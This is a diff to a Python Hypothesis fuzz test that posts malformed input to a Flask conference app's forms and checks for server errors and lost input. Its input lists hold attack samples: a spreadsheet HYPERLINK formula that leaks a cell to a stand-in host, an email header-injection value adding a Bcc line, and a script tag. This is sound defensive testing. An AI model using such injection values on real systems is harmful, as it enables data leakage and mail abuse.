@@ -5,11 +5,15 @@ was typed."""
 
 from __future__ import annotations
 
+import os
 import re
+import traceback
 from html.parser import HTMLParser
 
+from flask import got_request_exception
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from markupsafe import escape
 
 from conference.extensions import db
 from conference.seed import DEMO_PASSWORD, seed_demo
@@ -17,6 +21,8 @@ from tests.conftest import login
 
 NASTY_TEXT = st.sampled_from(
     ["", " ", "   \t ", "a\x00b", "x" * 5000, "Åsa Öberg", "<script>1</script>", "sNaN", "NaN", "-0", "1e400", "\r\n"]
+    + ['=HYPERLINK("http://host/?"&B2,"open")', "MDT\r\nBcc: a@example-hospital.se", "＝1+1", "%", "_", "\u202e"]
+    + ["%00", "😀" * 50, "a\u2028b", "0" * 120, "x" * 101]
 )
 NASTY_NUMBER = st.sampled_from(["", "abc", "sNaN", "NaN", "Infinity", "-1", "0", "9" * 400, str(2**63), "1.5", " 7 "])
 NASTY_DATE = st.sampled_from(["", "9999-12-31", "0001-01-01", "2026-02-30", "tomorrow", "2026-13-01", "1900-01-01"])
@@ -60,11 +66,18 @@ def _value(field: dict):
     if kind == "date":
         return NASTY_DATE
     if kind in ("select", "radio", "checkbox"):
-        return st.one_of(st.sampled_from(field["options"] or [""]), st.sampled_from(["", "999999999999999999999", "x"]))
+        return st.one_of(
+            st.sampled_from(field["options"] or [""]),
+            st.sampled_from(["", "999999999999999999999", "x", "   ", "\t", "-1", "0", "a\x00b", str(2**63)]),
+            st.sampled_from(field["options"] or [""]).map(lambda v: f" {v} "),
+        )
     if kind == "hidden":
         return st.one_of(NASTY_NUMBER, st.just("1"))
     return st.one_of(NASTY_TEXT, st.text(min_size=0, max_size=30))
 
+
+# Twelve examples per form keep the suite quick; CONFERENCE_FUZZ_EXAMPLES=200 runs the long fuzz (see the README).
+EXAMPLES = int(os.environ.get("CONFERENCE_FUZZ_EXAMPLES", "12"))
 
 PAGES = [
     "/",
@@ -119,7 +132,10 @@ def test_no_form_answers_5xx_or_loses_input(app):
     assert login(coordinator, "koordinator@example-hospital.se", DEMO_PASSWORD).status_code == 302
     assert login(admin, "admin@example-hospital.se", DEMO_PASSWORD).status_code == 302
     targets = []
-    for client, persona_pages in ((coordinator, pages), (admin, ["/admin/users/new", "/admin/users/"])):
+    for client, persona_pages in (
+        (coordinator, pages),
+        (admin, ["/admin/users/new", "/admin/users/", "/integrations/"]),
+    ):
         for page in persona_pages:
             parser = Forms()
             parser.feed(client.get(page).get_data(as_text=True))
@@ -130,19 +146,36 @@ def test_no_form_answers_5xx_or_loses_input(app):
                 targets.append((client, page, action, form["fields"]))
     assert len(targets) >= 15
     failures = []
+    posts = [0]
+    causes: list[str] = []
+
+    def record(sender, exception, **extra):
+        frame = traceback.extract_tb(exception.__traceback__)[-1]
+        causes.append(f"{type(exception).__name__}: {str(exception)[:120]} at {frame.filename}:{frame.lineno}")
+
+    got_request_exception.connect(record, app)
 
     for client, page, action, fields in targets:
         strategy = st.fixed_dictionaries({name: _value(field) for name, field in fields.items()})
 
         @settings(
-            max_examples=12, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck)
+            max_examples=EXAMPLES,
+            deadline=None,
+            derandomize=True,
+            database=None,
+            suppress_health_check=list(HealthCheck),
         )
         @given(data=strategy)
         def post(data):
             token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get(page).get_data(as_text=True))
-            response = client.post(action, data={**data, "csrf_token": token.group(1) if token else ""})
+            posts[0] += 1
+            try:
+                response = client.post(action, data={**data, "csrf_token": token.group(1) if token else ""})
+            except Exception as error:  # noqa: BLE001 - the test app propagates a 500's exception: count it, go on
+                failures.append((action, data, 500, f"{type(error).__name__}: {error}"[:200]))
+                return
             if response.status_code >= 500:
-                failures.append((action, data, response.status_code))
+                failures.append((action, data, response.status_code, causes[-1:]))
             elif response.status_code in (400, 409) and response.mimetype == "text/html":
                 body = response.get_data(as_text=True)
                 for name, value in data.items():
@@ -157,8 +190,11 @@ def test_no_form_answers_5xx_or_loses_input(app):
                         and '"' not in typed
                         and "'" not in typed
                         and typed not in body
+                        and str(escape(typed)) not in body  # shown as typed, HTML-escaped (">" is "&gt;")
                     ):
                         failures.append((action, name, typed, "typed input lost", response.status_code))
 
         post()
+    got_request_exception.disconnect(record, app)
+    print(f"fuzz: {posts[0]} posts, {len(failures)} failures, causes: {sorted(set(causes))}")
     assert not failures, failures[:10]
